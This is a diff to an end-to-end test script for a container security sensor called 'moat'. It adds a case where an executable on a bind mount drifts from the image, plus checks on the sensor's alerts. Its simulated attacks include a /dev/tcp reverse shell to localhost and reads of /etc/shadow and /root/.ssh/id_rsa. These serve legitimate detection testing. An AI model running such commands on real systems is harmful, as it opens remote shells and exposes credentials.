@@ -52,6 +52,48 @@ docker run --name moat-prep moat-sensor/attack-base:1 sh -c '
 IMAGE=moat-sensor/attack:1
 echo "token-of-the-test-service-account" >"$WORK/token"
 
+# The image's inventory in a private layer cache, as `moat image` writes it: the sensor compares
+# each exec in the image's containers with the executables listed there (drift).
+IMAGE_CACHE=$WORK/image-cache
+if "$MOAT" image --scanners none --cache-dir "$IMAGE_CACHE" -f json -o "$WORK/scan.json" "$IMAGE" \
+  2>"$WORK/scan.err"; then
+  pass image_inventory "$(python3 - "$IMAGE_CACHE" <<'PY'
+import json, os, sys
+total = entries = paths = listed = plain = 0
+for root, _, files in os.walk(sys.argv[1]):
+    for name in files:
+        text = open(os.path.join(root, name), "rb").read()
+        total += len(text)
+        doc = json.loads(text)
+        if "executables" not in doc:
+            continue
+        entries += 1
+        coded = doc["executables"]
+        listed += len(json.dumps(coded, separators=(",", ":")))
+        previous, expanded = "", []
+        for entry in coded:
+            shared, _, suffix = entry.partition(":")
+            previous = previous[: int(shared)] + suffix
+            expanded.append(previous)
+        paths += len(expanded)
+        plain += len(json.dumps(expanded, separators=(",", ":")))
+print(f"{entries} layers, {paths} executables; cache {total} bytes, of which the front-coded "
+      f"lists {listed} ({100 * listed / total:.1f}%; a plain list would be {plain})")
+PY
+)"
+else
+  fail image_inventory "moat image --cache-dir failed: $(tail -c 300 "$WORK/scan.err")"
+fi
+# A copy of an image binary, renamed, in a directory bound into a container (not the image's),
+# and a script there run by the image's shell (the kernel runs, and the sensor compares, the
+# shell).
+BIND=$WORK/bind
+mkdir -p "$BIND"
+docker create --name moat-copy "$IMAGE" >/dev/null && docker cp moat-copy:/usr/bin/true "$BIND/tool" &&
+  docker rm moat-copy >/dev/null || { fail setup "copying /usr/bin/true out of the image failed"; }
+printf '#!/bin/sh\necho from a volume >/dev/null\ntrue\n' >"$BIND/run.sh"
+chmod 755 "$BIND/tool" "$BIND/run.sh"
+
 # ---- The sensor --------------------------------------------------------------------------------
 ALERTS=$WORK/alerts.jsonl
 METRICS_PORT=$(free_port)
@@ -61,7 +103,8 @@ statsInterval: 5
 dockerSocket: $ENGINE/docker.sock
 YAML
 "$MOAT" sensor --config "$WORK/sensor.yaml" -o "$ALERTS" --metrics-listen "127.0.0.1:$METRICS_PORT" \
-  --in-use "$WORK/in-use.json" --in-use-interval 2 2>"$WORK/sensor.err" &
+  --in-use "$WORK/in-use.json" --in-use-interval 2 --image-cache "$IMAGE_CACHE" \
+  2>"$WORK/sensor.err" &
 SENSOR_PID=$!
 push_cleanup "stop_pid $SENSOR_PID 10"
 if ! wait_until 60 grep -q "sensor: attached" "$WORK/sensor.err"; then
@@ -137,6 +180,9 @@ attack reverse_shell "Moat Reverse Shell" "
   bash -c 'exec 3<>/dev/tcp/127.0.0.1/4711; sh <&3 >&3 2>&3'; wait"
 attack drift "Moat Drift Executable Not From Image" \
   "cp /usr/bin/true /usr/local/bin/dropped && chmod +x /usr/local/bin/dropped && /usr/local/bin/dropped"
+# Drift the writable layer does not show: a renamed copy of /usr/bin/true on a bind mount, run
+# (absent from the image's inventory in the cache).
+attack bind_mount_drift "Moat Drift Executable Not From Image" "/data/tool" -v "$BIND:/data:ro"
 attack credentials "Moat Password File Read|Moat SSH Key Access" \
   "cat /etc/shadow >/dev/null; cat /root/.ssh/id_rsa >/dev/null"
 attack history_and_logs "Moat Shell History Cleared|Moat System Log Removed" \
@@ -201,6 +247,10 @@ attack host_bind "Moat Sensitive Host Path Mounted In Container" "ls /host/etc/h
 attack dlopen "" "python3 -c 'import ctypes, time; time.sleep(3); ctypes.CDLL(\"libsqlite3.so.0\"); time.sleep(1)'"
 
 # The benign set: what a container does every day raises nothing.
+# A script on a volume run by the image's shell, both ways; the image's programs; docker-init
+# (docker run --init), which the engine mounts into the container.
+attack volume_script "" "sh /data/run.sh; /data/run.sh; /usr/bin/true; /bin/true" \
+  -v "$BIND:/data:ro" --init
 attack benign "" '
   for i in $(seq 30); do
     ls / >/dev/null; cat /etc/hostname >/dev/null; date >/dev/null; ps aux >/dev/null
@@ -265,9 +315,27 @@ PY
   ) && pass "attack_$name" "$result" || fail "attack_$name" "$result (output: $(head -c 300 "$WORK/$name.out"))"
 done
 
+# The bind-mount drift alert names the program as the container saw it and says how it was seen
+# (not on the writable layer, not in the image's inventory); the sensor read the inventory.
+python3 - "$ALERTS" "${CIDS[bind_mount_drift]:-none}" <<'PY' && pass bind_mount_drift_output || fail bind_mount_drift_output "see above"
+import json, sys
+alerts = [json.loads(l) for l in open(sys.argv[1], errors="replace")]
+mine = [a for a in alerts if a.get("container", {}).get("id") == sys.argv[2][:12]]
+drift = [a for a in mine if a["rule"] == "Moat Drift Executable Not From Image"]
+assert len(drift) == 1, [a["output"] for a in mine]
+out = drift[0]["output"]
+assert "exe=/data/tool " in out and "upper_layer=false in_image=false" in out, out
+assert "T1525" in json.dumps(drift[0]["mitre"]) and "K8S.NODE_LinuxBackdoorArtifact" in drift[0]["tags"]
+print(out)
+PY
+grep -q "executables from the layer cache in [0-9]* ms (drift against the image inventory on)" "$WORK/sensor.err" &&
+  pass inventory_loaded "$(grep -m1 'executables from the layer cache' "$WORK/sensor.err")" ||
+  fail inventory_loaded "the sensor did not log the image's inventory: $(grep -m3 'image' "$WORK/sensor.err")"
+
 # In use: the drift container ran /usr/local/bin/dropped and cp; the benign one gcc, and its
-# long-lived processes mapped libc; the dlopen container's python3 loaded libsqlite3 late.
-python3 - "$WORK/in-use.json" "${CIDS[benign]}" "${CIDS[dlopen]:-}" <<'PY' && pass in_use || fail in_use "see above"
+# long-lived processes mapped libc; the dlopen container's python3 loaded libsqlite3 late; the
+# script container ran docker-init and dash.
+python3 - "$WORK/in-use.json" "${CIDS[benign]}" "${CIDS[dlopen]:-}" "${CIDS[volume_script]:-}" <<'PY' && pass in_use || fail in_use "see above"
 import json, sys
 doc = json.load(open(sys.argv[1]))
 assert doc["format"] == "moat-in-use/1", doc.get("format")
@@ -284,6 +352,13 @@ assert d, f"dlopen container missing among {list(by_id)}"
 late = [lib for lib in d["libraries"] if "/libsqlite3.so" in lib]
 assert late, f"libsqlite3 (dlopen) not among {d['libraries']}"
 print("dlopen:", late)
+# The script container's silence is the drift rule's doing, not an unseen exec: its docker-init
+# (mounted in by the engine) and the shell that ran the script from the volume were seen.
+v = by_id.get(sys.argv[4])
+assert v, f"volume_script container missing among {list(by_id)}"
+assert any(e.endswith("/docker-init") for e in v["executables"]), v["executables"]
+assert "/usr/bin/dash" in v["executables"], v["executables"]
+print("volume_script:", v["executables"])
 PY
 last=$(grep "sensor at exit" "$WORK/sensor.err" | tail -n 1)
 [[ "$last" == *"drops 0,"* ]] && pass no_drops "$last" || fail no_drops "${last:-no counters line}"
